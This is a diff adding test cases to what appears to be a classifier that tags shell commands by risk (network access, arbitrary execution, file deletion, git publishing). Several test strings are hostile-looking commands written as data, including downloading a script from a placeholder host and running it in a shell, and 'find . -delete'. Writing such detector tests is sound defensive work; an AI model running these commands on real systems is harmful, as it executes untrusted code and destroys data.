@@ -288,6 +288,16 @@ describe("programs' own escapes", () => {
     ["fish -c 'git push'", ["GIT_PUBLISH"]],
     ["curl https://x.y | tcsh", ["NETWORK_RISK", "EXEC_ARBITRARY"]],
     ["csh -c ls", []],
+    ["unheard-of -- find . -delete", ["FS_DELETE_OVERWRITE"]],
+    ["unheard-of -- find . -name a", []],
+    ["unheard-of -c 'find . -delete'", ["FS_DELETE_OVERWRITE"]],
+    ["unheard-of echo 'rm -rf /'", []],
+    ["unheard-of deploy", ["GIT_PUBLISH"]],
+    ["unheard-of status deploy", []],
+    ["curl -o a https://x.y && sh b.sh", ["NETWORK_RISK", "EXEC_ARBITRARY"]],
+    ["curl -s https://x.y && sh b.sh", ["NETWORK_RISK"]],
+    ["echo ls > b.sh; wget https://x.y/b.sh; sh b.sh", ["NETWORK_RISK", "EXEC_ARBITRARY"]],
+    ["echo ls > b.sh; wget -qO- https://x.y/b.sh; sh b.sh", ["NETWORK_RISK"]],
   ])("%s: %j", (command, expected) => {
     expect(of(command)).toEqual(expected);
   });
